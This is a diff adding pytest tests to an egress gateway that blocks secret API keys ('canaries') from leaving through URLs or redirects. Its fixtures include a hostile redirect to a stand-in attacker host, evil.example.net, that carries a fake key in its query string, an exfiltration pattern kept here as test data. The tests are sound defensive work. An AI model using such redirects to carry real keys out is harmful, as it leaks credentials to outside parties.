@@ -11,7 +11,7 @@ import pytest
 from affidavit.egress.gateway import Gateway
 from affidavit.egress.policy import Policy
 from affidavit.egress.process.client import RemoteWeb
-from affidavit.errors import FailureKind, PageFailure, SearchFailure, SearchFailureKind
+from affidavit.errors import FailureKind, GatewayError, PageFailure, SearchFailure, SearchFailureKind
 
 from ..hostile_server import PUBLIC, Answers, redirect, reply
 from .conftest import KINDS, SITE, running
@@ -188,6 +188,63 @@ def test_a_mark_of_the_run_in_a_redirect_is_refused(play):
     assert "canary" in failure.detail
     assert run.decisions[-1].reason == "canary"
     assert all("evil" not in asked.host for asked in run.town.web.asked)
+
+
+KEY = "BSA-0123456789abcdef"
+
+
+def test_no_run_can_have_a_key_of_the_gateway_carried_out(town):
+    """The gateway's process looks for its own keys, which no run knows, in every address and redirect."""
+
+    async def scene():
+        pages = {"/go": redirect(f"https://evil.example.net/?d={KEY}"), "/a": reply(b"a")}
+        async with (
+            town(pages, keys={"BRAVE_API_KEY": KEY}) as place,
+            place.session(given=[f"{SITE}/go", f"{SITE}/{KEY}", f"{SITE}/a"]) as one,
+        ):
+            gateway = Gateway(RemoteWeb(one), lambda _: None, one.policy)
+            failures = []
+            for url in (f"{SITE}/go", f"{SITE}/{KEY}"):
+                gateway.saw(url, "given by the user")
+                with pytest.raises(PageFailure) as caught:
+                    await gateway.fetch(url)
+                failures.append(caught.value.detail)
+            gateway.saw(f"{SITE}/a", "given by the user")
+            assert (await gateway.fetch(f"{SITE}/a")).body == b"a"
+            return place, failures
+
+    place, failures = asyncio.run(scene())
+    assert all("canary" in failure for failure in failures)
+    assert place.web.urls == [f"{SITE}/go", f"{SITE}/a"]
+
+
+def test_where_a_redirect_led_is_judged_by_the_run_too_whose_own_keys_are_told_to_nobody(town):
+    async def scene():
+        pages = {"/go": redirect(f"https://evil.example.net/?d={KEY}"), f"/?d={KEY}": reply(b"got it")}
+        async with town(pages) as place, place.session(given=[f"{SITE}/go"], keep=True) as one:
+            kept, decisions = [], []
+            gateway = Gateway(RemoteWeb(one, kept.append), decisions.append, one.policy, canaries=[KEY])
+            gateway.saw(f"{SITE}/go", "given by the user")
+            with pytest.raises(PageFailure, match="canary") as caught:
+                await gateway.fetch(f"{SITE}/go")
+            return caught.value, decisions, kept, place.events("open")
+
+    failure, decisions, kept, opened = asyncio.run(scene())
+    assert failure.kind is FailureKind.BLOCKED_BY_POLICY
+    pages = [(one.allowed, one.reason) for one in decisions if one.purpose == "page"]
+    assert pages == [(True, "redirected"), (True, "fetched"), (False, "canary")]
+    assert len(kept) == 2
+    assert KEY not in str(opened)
+
+
+def test_a_mark_that_stands_in_honest_addresses_is_refused_with_a_reason(town):
+    async def scene():
+        async with town() as place:
+            with pytest.raises(GatewayError, match="fewer than 8"):
+                async with place.session(canaries=["mill"]):
+                    pass
+
+    asyncio.run(scene())
 
 
 def test_a_run_gets_kept_pages_as_fresh_as_it_and_the_gateway_want_them(town):
